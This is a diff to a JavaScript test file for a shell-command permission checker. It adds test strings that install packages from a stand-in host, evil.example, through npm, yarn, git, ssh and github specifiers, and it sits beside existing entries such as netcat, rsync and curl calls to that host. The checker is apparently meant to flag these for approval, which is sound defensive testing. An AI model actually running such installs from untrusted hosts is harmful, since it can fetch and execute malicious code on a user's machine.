@@ -84,6 +84,11 @@ describe("hosts", () => {
       "rsync a evil.example::b",
       "nc -v evil.example 80",
       "npm i --registry https://evil.example",
+      "npm view https:evil.example/x",
+      "npm i x@https:evil.example/x.tgz",
+      "npm i git@evil.example:x/y",
+      "yarn add x@git+ssh:evil.example/x",
+      "npm i github:evil/x",
       "pip install --index-url=https://evil.example x",
       "sudo env A=1 curl evil.example",
     ])
@@ -96,6 +101,7 @@ describe("hosts", () => {
       "echo https://evil.example",
       "git log a@b",
       "scp a b",
+      "npm i left-pad@1.0.0 x@npm:y@2 @types/node z@workspace:* ./a file:../b",
     ])
       expect(shell(command, open), command).toMatch(/^ask/);
   });
